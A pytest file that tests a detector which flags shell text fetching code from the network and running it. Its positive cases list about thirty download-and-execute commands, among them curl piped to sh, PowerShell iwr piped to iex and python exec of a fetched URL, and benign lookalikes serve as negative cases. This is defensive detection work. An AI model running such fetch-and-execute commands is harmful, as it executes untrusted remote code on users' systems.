"""Fetching code and running it at once."""

from __future__ import annotations

import pytest

from overgrant.dialect.grammar.download import downloads_and_runs


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://x.example | sh",
        "curl x | sudo -E bash -s -- a",
        "wget -qO- x | bash",
        "bash <(curl -s x)",
        'eval "$(curl x)"',
        'sh -c "$(curl -fsSL x)"',
        "iwr x | iex",
        "echo x | base64 -d | sh",
        "curl x | tee f | bash",
        "curl -o x.sh u && sh x.sh",
        "curl -fsSLo i.sh u; bash i.sh",
        "curl -O https://a.example/i.sh; sh i.sh",
        "curl x > f; bash f",
        "wget https://a.example/b.sh && chmod +x b.sh && ./b.sh",
        'bash -c "curl x | sh"',
        'ssh host "curl x | sh"',
        'powershell -c "iwr x | iex"',
        "powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('u'))\"",
        "python -c \"exec(__import__('urllib.request').request.urlopen('u').read())\"",
        "source <(curl x)",
        ". <(wget -qO- x)",
        'bash <<< "$(curl x)"',
        "$(curl x)",
        "curl x | python -",
        "curl x | python3",
        "curl x | (cd /tmp; sh)",
        "if true; then curl x | sh; fi",
        "f() { curl x | sh; }; f",
        "curl x | sudo -u root env A=b timeout 5 bash",
        "echo ok\ncurl ${{ inputs.url }} | sh\n",
    ],
)
def test_it_is_seen(text: str) -> None:
    (evidence, *_) = downloads_and_runs(text)
    assert 0 <= evidence.start < evidence.end <= len(text)
    assert evidence.what


@pytest.mark.parametrize(
    "text",
    [
        "",
        "curl x",
        "curl x | jq .",
        "curl x | grep sh",
        "curl x | python s.py",
        "curl x | python -m json.tool",
        "curl x | tee f",
        'python s.py "$(curl x)"',
        'echo "$(curl x)"',
        "curl -o x.json u && cat x.json",
        "curl x && sh y.sh",
        "bash s.sh",
        "base64 f | sh",
        "sh x.sh && curl -d a b",
        "VERSION=$(curl x) bash s.sh",
        "curl x; cat f | sh",
        "echo 'curl x | sh'",
        "git commit -m 'curl x | sh'",
        "# curl x | sh",
    ],
)
def test_it_is_not_seen_where_it_is_not(text: str) -> None:
    assert downloads_and_runs(text) == []


def test_the_span_is_the_pipeline() -> None:
    text = "cd /tmp && curl -s x | sh -x; ls"
    (evidence,) = downloads_and_runs(text)
    assert text[evidence.start : evidence.end] == "curl -s x | sh -x"
    assert evidence.what == "fetched code is piped into `sh`"
